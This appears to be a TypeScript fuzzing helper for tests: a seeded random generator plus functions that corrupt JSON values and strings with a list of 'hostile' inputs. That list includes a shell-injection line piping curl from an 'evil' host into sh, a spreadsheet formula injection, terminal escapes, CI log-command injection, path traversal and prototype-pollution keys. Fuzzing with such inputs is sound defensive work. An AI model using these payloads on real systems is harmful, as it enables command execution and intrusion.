/** Numbers from 0 to 1 by a seed: the same run again. Source: mulberry32, public domain. */
export function randomBy(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
}

export type Random = () => number

export const pick = <Item>(random: Random, items: readonly Item[]): Item => items[Math.floor(random() * items.length)]!
const upTo = (random: Random, most: number) => Math.floor(random() * most)

const deep = (levels: number) => '['.repeat(levels) + ']'.repeat(levels)

/** Texts that were trouble somewhere. `KEY` stands for the key in use. */
const TEXTS = [
  '',
  ' ',
  'KEY',
  'Bearer KEY',
  '\u001b[2J\u001b]0;KEY\u0007',
  '\u009b31m',
  '\0',
  '\ud800',
  '\u202e\u200b',
  '\n\r\n\n',
  '::error::x',
  '##vso[x]',
  '=cmd|x!A1',
  '../../..',
  'accounts/other/quotas/monthly-spend-usd',
  'accounts/acme/quotas/global--h100-count',
  'q;curl${IFS}evil|sh',
  '-rf',
  '__proto__',
  'constructor',
  'NaN',
  '9'.repeat(400),
  '-1',
  '1e308',
  '0x10',
  '9223372036854775807',
  '0001-01-01T00:00:00Z',
  '+275760-09-13T00:00:00Z',
  'Account acme is suspended, possibly due to reaching the monthly spending limit',
  'global--h100-count for account acme, in use: 8, quota: 8, requesting: 2',
  '<html><title>KEY</title>',
  '{"error":{"message":"KEY"}}',
  'data: {"error":{"code":429}}',
  'x'.repeat(30_000),
  '\\u006b'.repeat(2000),
  '%25'.repeat(2000),
  'ä'.repeat(2000),
  'Z' + '\u0301'.repeat(2000),
] as const

const VALUES: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1e308,
  5e-324,
  -0,
  2 ** 53,
  {},
  [],
  [[]],
  {a: {b: {}}},
  [null, 1, 'x'],
]

export function hostileText(random: Random, key: string): string {
  return pick(random, TEXTS).replaceAll('KEY', key)
}

function hostileValue(random: Random, key: string): unknown {
  return random() < 0.6 ? hostileText(random, key) : pick(random, VALUES)
}

/** A value with some of its members replaced, removed, renamed or repeated. */
export function bent(value: unknown, random: Random, key: string): unknown {
  if (random() < 0.08) return hostileValue(random, key)
  if (Array.isArray(value)) {
    const items = value.flatMap(item => (random() < 0.05 ? [] : [bent(item, random, key)]))
    return random() < 0.05 ? Array.from({length: upTo(random, 300)}, () => items[0]) : items
  }
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(
    Object.entries(value).flatMap(([name, member]) =>
      random() < 0.05 ? [] : [[random() < 0.03 ? hostileText(random, key) : name, bent(member, random, key)]],
    ),
  )
}

/** A text with pieces put in, taken out, repeated and cut. */
export function torn(text: string, random: Random, key: string): string {
  let result = text.slice(0, 200_000)
  for (let turns = 1 + upTo(random, 4); turns > 0; turns--) {
    const at = upTo(random, result.length + 1)
    const end = Math.min(result.length, at + upTo(random, 200))
    const change = upTo(random, 5)
    if (change === 0) result = result.slice(0, at) + hostileText(random, key) + result.slice(at)
    else if (change === 1) result = result.slice(0, at) + result.slice(end)
    else if (change === 2)
      result = result.slice(0, at) + result.slice(at, end).repeat(1 + upTo(random, 300)) + result.slice(end)
    else if (change === 3) result = result.slice(0, at)
    else result = result.slice(0, at) + deep(upTo(random, 20_000)) + result.slice(at)
  }
  return result.slice(0, 2_000_000)
}
